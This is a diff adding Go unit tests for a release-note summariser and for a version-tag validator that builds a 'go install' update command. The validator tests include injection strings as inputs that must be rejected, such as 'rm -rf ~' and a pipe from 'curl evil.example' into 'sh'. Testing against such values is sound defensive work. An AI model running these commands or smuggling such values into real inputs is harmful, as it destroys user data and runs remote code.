@@ -0,0 +1,50 @@
+package main
+
+import (
+	"strings"
+	"testing"
+	"unicode/utf8"
+)
+
+func TestReleaseSummary(t *testing.T) {
+	long := strings.Repeat("é", 100)
+	tests := []struct{ notes, want string }{
+		{"## What's new\n\n- Faster startup\n- Themes", "Faster startup"},
+		{"# v1.2.0\n* **Line mode** for dumb terminals", "**Line mode** for dumb terminals"},
+		{"", ""},
+		{"## Only headings", ""},
+		{long, strings.Repeat("é", 77) + "..."},
+		{strings.Repeat("界", 80), strings.Repeat("界", 80)},
+	}
+	for _, test := range tests {
+		got := releaseSummary(test.notes)
+		if got != test.want || !utf8.ValidString(got) {
+			t.Errorf("releaseSummary(%q) = %q, want %q", test.notes, got, test.want)
+		}
+	}
+}
+
+func TestUpdateCommand(t *testing.T) {
+	tests := []struct {
+		tag string
+		ok  bool
+	}{
+		{"v1.2.3", true},
+		{"v1.2.3-rc.1", true},
+		{"1.2.3", false},
+		{"v1.2", false},
+		{"v1.2.3; rm -rf ~", false},
+		{"v1.2.3\nrm -rf ~", false},
+		{"v1.2.3 && curl evil.example | sh", false},
+		{"$(reboot)", false},
+	}
+	for _, test := range tests {
+		command, ok := updateCommand(test.tag)
+		if ok != test.ok {
+			t.Errorf("updateCommand(%q) ok = %t, want %t", test.tag, ok, test.ok)
+		}
+		if ok && command != "go install "+releaseModulePath+"@"+test.tag {
+			t.Errorf("updateCommand(%q) = %q", test.tag, command)
+		}
+	}
+}